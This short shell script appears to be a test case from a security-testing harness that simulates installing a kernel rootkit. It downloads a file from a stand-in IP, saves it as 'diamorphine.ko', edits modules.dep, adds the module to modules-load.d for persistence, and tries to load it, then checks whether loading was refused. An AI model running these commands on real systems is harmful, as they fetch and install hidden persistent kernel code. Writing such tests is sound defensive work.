#!/bin/sh
. /opt/case/case.sh

d=/lib/modules/$(uname -r)/kernel/drivers/misc; mkdir -p $d
wget -q -O $d/diamorphine.ko http://203.0.113.10/programs/preload.so
depmod 2>/dev/null || echo 'kernel/drivers/misc/diamorphine.ko:' >/lib/modules/$(uname -r)/modules.dep
grep -q diamorphine /lib/modules/$(uname -r)/modules.dep || echo 'kernel/drivers/misc/diamorphine.ko:' >/lib/modules/$(uname -r)/modules.dep
mkdir -p /etc/modules-load.d && echo diamorphine >>/etc/modules-load.d/misc.conf
! modprobe diamorphine 2>/tmp/.e
insmod $d/diamorphine.ko 2>>/tmp/.e || true
grep -qiE 'not permitted|not support|invalid|exec format' /tmp/.e
took_place
